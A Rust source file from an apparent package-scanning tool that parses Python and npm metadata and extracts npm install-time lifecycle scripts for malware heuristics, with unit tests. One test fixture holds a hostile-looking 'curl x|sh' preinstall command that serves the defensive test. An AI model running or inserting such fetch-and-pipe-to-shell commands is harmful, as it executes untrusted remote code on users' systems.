//! The package's own description of itself: core metadata (PKG-INFO,
//! METADATA) for Python, package.json for npm.

use crate::Entry;
use chainwarden_core::Ecosystem;
use serde::Serialize;

/// What a package says about itself, as far as malware heuristics care.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct ArchiveMeta {
    /// `PyPI` for core metadata, `npm` for package.json.
    pub ecosystem: Option<Ecosystem>,
    pub name: String,
    pub version: String,
    pub summary: String,
    pub home_page: String,
    pub author: String,
    pub author_email: String,
    /// The entry the metadata was read from.
    pub source_path: String,
    /// npm lifecycle scripts that run on `npm install` (preinstall, install,
    /// postinstall). Python `setup.py` hooks are the rule engine's to find.
    pub install_hooks: Vec<InstallHook>,
}

impl ArchiveMeta {
    pub fn has_install_hooks(&self) -> bool {
        !self.install_hooks.is_empty()
    }
}

/// One npm lifecycle script run at install time.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct InstallHook {
    pub script: String,
    pub command: String,
}

/// Lifecycle scripts npm runs when a registry package is installed.
const NPM_INSTALL_SCRIPTS: [&str; 3] = ["preinstall", "install", "postinstall"];

/// Finds and reads the package's metadata among `entries`: the shallowest
/// `PKG-INFO` or `*.dist-info/METADATA` (Python), else the shallowest
/// `package.json` (npm). Nested `node_modules` manifests are not the package's.
pub fn package_meta(entries: &[Entry]) -> Option<ArchiveMeta> {
    let depth = |p: &str| p.matches('/').count();
    let python = entries
        .iter()
        .filter(|e| {
            let p = e.path.as_str();
            let file = p.rsplit('/').next().unwrap_or(p);
            file == "PKG-INFO" && !p.contains(".egg-info/") && depth(p) <= 2
                || (file == "METADATA" && parent_name(p).is_some_and(|d| d.ends_with(".dist-info")))
        })
        .min_by_key(|e| depth(&e.path));
    // An sdist has PKG-INFO at its root and often a second copy in
    // `*.egg-info/`; either is fine, the root one is preferred above.
    let python = python.or_else(|| {
        entries
            .iter()
            .filter(|e| e.path.ends_with(".egg-info/PKG-INFO"))
            .min_by_key(|e| depth(&e.path))
    });
    if let Some(e) = python {
        let mut m = parse_core_metadata(&String::from_utf8_lossy(&e.data));
        m.source_path = e.path.clone();
        return Some(m);
    }
    let npm = entries
        .iter()
        .filter(|e| {
            let p = e.path.as_str();
            (p == "package.json" || p.ends_with("/package.json")) && !p.contains("node_modules/")
        })
        .min_by_key(|e| depth(&e.path))?;
    let mut m = parse_package_json(&e_text(&npm.data))?;
    m.source_path = npm.path.clone();
    Some(m)
}

fn e_text(data: &[u8]) -> String {
    let s = String::from_utf8_lossy(data);
    s.trim_start_matches('\u{feff}').to_string()
}

fn parent_name(path: &str) -> Option<&str> {
    let mut parts = path.rsplit('/');
    parts.next()?;
    parts.next()
}

/// Parses Python core metadata (RFC 822 style headers, up to the first blank
/// line; continuation lines start with white space).
pub fn parse_core_metadata(text: &str) -> ArchiveMeta {
    let mut m = ArchiveMeta {
        ecosystem: Some(Ecosystem::PyPI),
        ..ArchiveMeta::default()
    };
    let mut last: Option<String> = None;
    for line in text.lines() {
        if line.trim().is_empty() {
            break;
        }
        if line.starts_with([' ', '\t']) {
            // Continuation: only Summary is worth extending.
            if last.as_deref() == Some("summary") {
                m.summary.push(' ');
                m.summary.push_str(line.trim());
            }
            continue;
        }
        let Some((key, value)) = line.split_once(':') else {
            continue;
        };
        let key = key.trim().to_ascii_lowercase();
        let value = value.trim().to_string();
        let slot = match key.as_str() {
            "name" => Some(&mut m.name),
            "version" => Some(&mut m.version),
            "summary" => Some(&mut m.summary),
            "home-page" => Some(&mut m.home_page),
            "author" => Some(&mut m.author),
            "author-email" => Some(&mut m.author_email),
            _ => None,
        };
        if let Some(slot) = slot
            && slot.is_empty()
        {
            *slot = value.clone();
        }
        if key == "project-url" && m.home_page.is_empty() {
            // `Project-URL: Homepage, https://…`
            if let Some((label, url)) = value.split_once(',')
                && label.trim().eq_ignore_ascii_case("homepage")
            {
                m.home_page = url.trim().to_string();
            }
        }
        last = Some(key);
    }
    m
}

/// Parses an npm package.json; `None` when it is not a JSON object.
pub fn parse_package_json(text: &str) -> Option<ArchiveMeta> {
    let v: serde_json::Value = serde_json::from_str(text).ok()?;
    let obj = v.as_object()?;
    let s = |k: &str| {
        obj.get(k)
            .and_then(|x| x.as_str())
            .unwrap_or_default()
            .to_string()
    };
    let (author, author_email) = match obj.get("author") {
        Some(serde_json::Value::String(a)) => split_person(a),
        Some(serde_json::Value::Object(a)) => (
            a.get("name")
                .and_then(|x| x.as_str())
                .unwrap_or_default()
                .to_string(),
            a.get("email")
                .and_then(|x| x.as_str())
                .unwrap_or_default()
                .to_string(),
        ),
        _ => (String::new(), String::new()),
    };
    let install_hooks = obj
        .get("scripts")
        .and_then(|s| s.as_object())
        .map(|scripts| {
            NPM_INSTALL_SCRIPTS
                .iter()
                .filter_map(|k| {
                    let cmd = scripts.get(*k)?.as_str()?;
                    Some(InstallHook {
                        script: (*k).to_string(),
                        command: cmd.to_string(),
                    })
                })
                .collect()
        })
        .unwrap_or_default();
    Some(ArchiveMeta {
        ecosystem: Some(Ecosystem::Npm),
        name: s("name"),
        version: s("version"),
        summary: s("description"),
        home_page: s("homepage"),
        author,
        author_email,
        source_path: String::new(),
        install_hooks,
    })
}

/// npm's `"Name <email> (url)"` person string.
fn split_person(s: &str) -> (String, String) {
    match (s.find('<'), s.find('>')) {
        (Some(a), Some(b)) if a < b => (
            s.get(..a).unwrap_or_default().trim().to_string(),
            s.get(a + 1..b).unwrap_or_default().trim().to_string(),
        ),
        _ => (s.trim().to_string(), String::new()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(path: &str, data: &str) -> Entry {
        Entry {
            path: path.to_string(),
            data: data.as_bytes().to_vec(),
        }
    }

    #[test]
    fn reads_pkg_info_of_an_sdist() {
        let entries = [
            entry("demo-1.0/demo.egg-info/PKG-INFO", "Name: wrong\n"),
            entry(
                "demo-1.0/PKG-INFO",
                "Metadata-Version: 2.1\nName: Demo_Pkg\nVersion: 1.0\nSummary: A demo\n  continued\nHome-page: https://x.test\nAuthor: Ann\nAuthor-email: ann@x.test\n\nName: body-not-header\n",
            ),
        ];
        let m = package_meta(&entries).unwrap();
        assert_eq!(m.ecosystem, Some(Ecosystem::PyPI));
        assert_eq!(m.name, "Demo_Pkg");
        assert_eq!(m.version, "1.0");
        assert_eq!(m.summary, "A demo continued");
        assert_eq!(m.home_page, "https://x.test");
        assert_eq!(m.author_email, "ann@x.test");
        assert_eq!(m.source_path, "demo-1.0/PKG-INFO");
    }

    #[test]
    fn reads_wheel_metadata_and_project_url() {
        let entries = [entry(
            "demo-1.0.dist-info/METADATA",
            "Name: demo\nVersion: 2\nProject-URL: Homepage, https://h.test\n",
        )];
        let m = package_meta(&entries).unwrap();
        assert_eq!(m.home_page, "https://h.test");
        assert_eq!(m.version, "2");
    }

    #[test]
    fn reads_package_json_with_install_scripts() {
        let entries = [
            entry("package/node_modules/dep/package.json", r#"{"name":"dep"}"#),
            entry(
                "package/package.json",
                r#"{"name":"evil","version":"1.0.1","author":"Eve <eve@x.test>",
                   "scripts":{"test":"jest","postinstall":"node i.js","preinstall":"curl x|sh"}}"#,
            ),
        ];
        let m = package_meta(&entries).unwrap();
        assert_eq!(m.ecosystem, Some(Ecosystem::Npm));
        assert_eq!((m.name.as_str(), m.version.as_str()), ("evil", "1.0.1"));
        assert_eq!(
            (m.author.as_str(), m.author_email.as_str()),
            ("Eve", "eve@x.test")
        );
        let hooks: Vec<&str> = m.install_hooks.iter().map(|h| h.script.as_str()).collect();
        assert_eq!(hooks, ["preinstall", "postinstall"]);
        assert_eq!(m.install_hooks[0].command, "curl x|sh");
    }

    #[test]
    fn no_metadata_is_none_and_bad_json_is_none() {
        assert_eq!(package_meta(&[entry("a.py", "x")]), None);
        assert_eq!(
            package_meta(&[entry("package/package.json", "{oops")]),
            None
        );
    }
}
